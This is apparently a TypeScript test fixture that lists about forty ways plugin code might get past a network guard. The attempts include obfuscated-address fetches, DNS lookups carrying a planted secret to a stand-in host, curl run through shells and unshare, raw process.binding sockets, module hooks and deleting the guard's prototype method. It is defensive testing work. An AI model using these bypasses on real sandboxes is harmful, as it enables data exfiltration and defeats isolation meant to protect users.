/**
 * Twenty-odd ways out, tried by code that should not: for the test of the guard, as a plugin would hold them. `far` is an
 * address that counts who comes; each attempt either leads somewhere or throws.
 */
import { type ChildProcess, execFileSync, fork, spawn } from 'node:child_process';
import dgram from 'node:dgram';
import dns from 'node:dns';
import http from 'node:http';
import http2 from 'node:http2';
import https from 'node:https';
import inspector from 'node:inspector';
import inspectorPromises from 'node:inspector/promises';
import { createRequire, register } from 'node:module';
import net from 'node:net';
import tls from 'node:tls';
import { Worker } from 'node:worker_threads';

/** Where the attempts lead. */
export interface Far {
  /** TCP and HTTP on 127.0.0.1. */
  readonly port: number;
  readonly udp: number;
  /** A socket file that somebody listens on. */
  readonly pipe: string;
  /** A web address that sends on to `port`. */
  readonly sendsOn: number;
}

/** A way out: resolves when something got through. */
type Way = (far: Far) => Promise<unknown>;

const SECRET = 'planted-secret';

const emits = (emitter: NodeJS.EventEmitter, event: string): Promise<unknown> =>
  new Promise((resolve, reject) => emitter.once(event, resolve).once('error', reject));

const ends = async (child: ChildProcess): Promise<void> => {
  const code = await emits(child, 'exit');
  if (code !== 0) throw new Error(`exit ${code}`);
};

const inNode = (code: string, options: object = {}): Promise<void> =>
  ends(spawn(process.execPath, ['--input-type=module', '-e', code], { stdio: 'ignore', ...options }));

const reach = (port: number): string => `http://127.0.0.1:${port}/?${SECRET}`;

const worker = (code: string, options: object = {}): Promise<unknown> => {
  const thread = new Worker(code, { eval: true, ...options });
  return new Promise((resolve, reject) => {
    thread.once('error', reject).once('exit', (exit) => (exit === 0 ? resolve(0) : reject(new Error(`exit ${exit}`))));
  });
};

/** An own socket of the inside kind. */
function rawConnect(binding: (name: string) => unknown, port: number): Promise<unknown> {
  const { TCP, TCPConnectWrap } = binding('tcp_wrap') as {
    TCP: new (kind: number) => { connect(request: object, address: string, port: number): number };
    TCPConnectWrap: new () => { oncomplete?: (status: number) => void };
  };
  const request = new TCPConnectWrap();
  const { promise, resolve, reject } = Promise.withResolvers<unknown>();
  request.oncomplete = (status) => (status === 0 ? resolve(0) : reject(new Error(String(status))));
  const status = new TCP(0).connect(request, '127.0.0.1', port);
  if (status !== 0) reject(new Error(String(status)));
  return promise;
}

const { binding } = process as unknown as { readonly binding: (name: string) => unknown };

/** All ways, by name. */
export const WAYS: Readonly<Record<string, Way>> = {
  fetch: ({ port }) => fetch(reach(port), { method: 'POST', body: SECRET }),
  'fetch by number': ({ port }) => fetch(`http://2130706433:${port}/`),
  'fetch by octal': ({ port }) => fetch(`http://0177.0.0.1:${port}/`),
  'fetch by IPv6': ({ port }) => fetch(`http://[::ffff:127.0.0.1]:${port}/`),
  'fetch sent on': ({ sendsOn }) => fetch(`http://127.0.0.1:${sendsOn}/`),
  'fetch by name': () => fetch(`https://${SECRET}.example.com/`),
  http: ({ port }) => emits(http.get(reach(port)), 'response'),
  https: ({ port }) =>
    new Promise((resolve, reject) => {
      const request = https.get(`https://127.0.0.1:${port}`);
      request.once('error', reject).once('socket', (socket: net.Socket) => void socket.once('connect', resolve));
    }),
  http2: ({ port }) => emits(http2.connect(`http://127.0.0.1:${port}`), 'connect'),
  net: ({ port }) => emits(net.connect(port, '127.0.0.1'), 'connect'),
  'net by localhost': ({ port }) => emits(net.connect(port, 'localhost'), 'connect'),
  'net with a lookup of its own': ({ port }) =>
    emits(
      net.connect({
        host: 'x.example.com',
        port,
        lookup: (_, __, done) => (done as (e: null, a: object[]) => void)(null, [{ address: '127.0.0.1', family: 4 }]),
      }),
      'connect',
    ),
  tls: ({ port }) => emits(tls.connect(port, '127.0.0.1', { rejectUnauthorized: false }), 'connect'),
  'the prototype': ({ port }) =>
    emits(Reflect.apply(net.Socket.prototype.connect, new net.Socket(), [{ port, host: '127.0.0.1' }]), 'connect'),
  'a socket file': ({ pipe }) => emits(net.connect(pipe), 'connect'),
  udp: ({ udp }) =>
    new Promise((resolve, reject) => {
      const socket = dgram.createSocket('udp4');
      socket.send(SECRET, udp, '127.0.0.1', (error) => socket.close(() => (error ? reject(error) : resolve(0))));
    }),
  'udp, connected': ({ udp }) =>
    new Promise((resolve, reject) => {
      const socket = dgram.createSocket('udp4');
      socket.connect(udp, '127.0.0.1', ((error?: Error) =>
        socket.close(() => (error ? reject(error) : resolve(0)))) as () => void);
    }),
  'dns.lookup': () => dns.promises.lookup(`${SECRET}.example.com`),
  'dns.resolve': () => dns.promises.resolve4(`${SECRET}.example.com`),
  'a resolver of its own': ({ udp }) => {
    const resolver = new dns.promises.Resolver();
    resolver.setServers([`127.0.0.1:${udp}`]);
    return resolver.resolveTxt(`${SECRET}.example.com`);
  },
  'dns.reverse': () => dns.promises.reverse('8.8.8.8'),
  WebSocket: ({ port }) =>
    new Promise((resolve, reject) => {
      const socket = new WebSocket(`ws://127.0.0.1:${port}/`);
      socket.onopen = resolve;
      socket.onerror = () => reject(new Error('closed'));
    }),
  'the fetch of a package': async ({ port }) =>
    (createRequire(import.meta.url)('undici') as { fetch: typeof fetch }).fetch(reach(port)),
  'a program': ({ port }) => ends(spawn('curl', ['-s', reach(port)], { stdio: 'ignore' })),
  'a program in a shell': ({ port }) => ends(spawn(`curl -s '${reach(port)}'`, { shell: true, stdio: 'ignore' })),
  'a program, waited for': async ({ port }) => execFileSync('curl', ['-s', reach(port)], { stdio: 'ignore' }),
  'a program in our place': async ({ port }) =>
    (process as unknown as { execve(file: string, args: string[]): never }).execve('/usr/bin/curl', [
      'curl',
      '-s',
      reach(port),
    ]),
  'a fork of ours, off the network': ({ port }) =>
    ends(spawn('/usr/bin/unshare', ['-r', 'curl', '-s', reach(port)], { stdio: 'ignore' })),
  'another Node': ({ port }) => inNode(`await fetch('${reach(port)}')`),
  'another Node without our variables': ({ port }) =>
    inNode(`await fetch('${reach(port)}')`, { env: { NODE_OPTIONS: '' } }),
  'a fork': ({ port }) =>
    ends(
      fork('data:text/javascript,', [], {
        execArgv: ['--input-type=module', '-e', `await fetch('${reach(port)}')`],
        env: {},
        stdio: 'ignore',
      }),
    ),
  'a thread': ({ port }) => worker(`require('node:http').get('${reach(port)}')`),
  'a thread without our arguments': ({ port }) =>
    worker(`fetch('${reach(port)}').catch((e) => { throw e })`, { execArgv: [], env: {} }),
  'the inside of Node': ({ port }) => rawConnect(binding, port),
  'the inside of Node, in a thread': ({ port }) =>
    worker(
      `const { TCP, TCPConnectWrap } = process.binding('tcp_wrap'); new TCP(0).connect(new TCPConnectWrap(), '127.0.0.1', ${port})`,
      { execArgv: [] },
    ),
  'the class behind an open socket': async ({ port }) => {
    const server = net.createServer().listen(0, '127.0.0.1');
    await emits(server, 'listening');
    const { _handle: handle } = server as unknown as { readonly _handle: { constructor: never } };
    return rawConnect(() => ({ TCP: handle.constructor, TCPConnectWrap: class {} }), port).finally(() =>
      server.close(),
    );
  },
  'the inspector': async () => new inspector.Session().connect(),
  'the inspector, by its family': async () => {
    const Session = Object.getPrototypeOf(inspectorPromises.Session) as typeof inspector.Session;
    new Session().connect();
  },
  'hooks of modules': async ({ port }) => {
    const code = `import net from 'node:net'; net.connect(${port}, '127.0.0.1'); export const initialize = () => 0;`;
    register(`data:text/javascript,${encodeURIComponent(code)}`);
    // Hooks are set up when the next module is asked for.
    await import('node:zlib');
    return new Promise((resolve) => setTimeout(resolve, 300));
  },
  'a gap of our own': async ({ port }) => {
    const { claimPassage } = await import('../../src/guard/index.ts');
    const gap = claimPassage();
    if (gap === undefined) throw new Error('given away');
    return emits(gap.open('127.0.0.1', port), 'connect');
  },
  'a way out of our own, with everything granted': async ({ port }) => {
    const { createWayOut, OPEN_PASSAGE } = await import('../../src/host/way-out/index.ts');
    const all = { origin: reach(port), purposes: ['chat'] as const, near: true, at: '' };
    const origin = `http://127.0.0.1:${port}`;
    const wayOut = createWayOut({
      grants: { find: () => all, list: () => [{ ...all, origin }] } as never,
      offline: { closedBy: () => undefined, set: () => undefined },
      list: {} as never,
      ids: { next: () => '1' },
      clock: { now: () => 0 },
      note: async () => undefined,
      passage: OPEN_PASSAGE,
    });
    return wayOut.fetchFor({ purpose: 'chat' })(reach(port));
  },
  'the guard taken down': async ({ port }) => {
    const { prototype } = net.Socket;
    const { TCP } = binding('tcp_wrap') as { TCP: { prototype: Record<string, unknown> } };
    delete TCP.prototype.connect;
    return emits(Reflect.apply(prototype.connect, new net.Socket(), [{ port, host: '127.0.0.1' }]), 'connect');
  },
  'native code from elsewhere': async () => process.dlopen({ exports: {} }, '/usr/lib/x86_64-linux-gnu/libc.so.6'),
  'listening to all the world': async () => {
    const server = net.createServer().listen(0, '0.0.0.0');
    await emits(server, 'listening');
    server.close();
  },
};
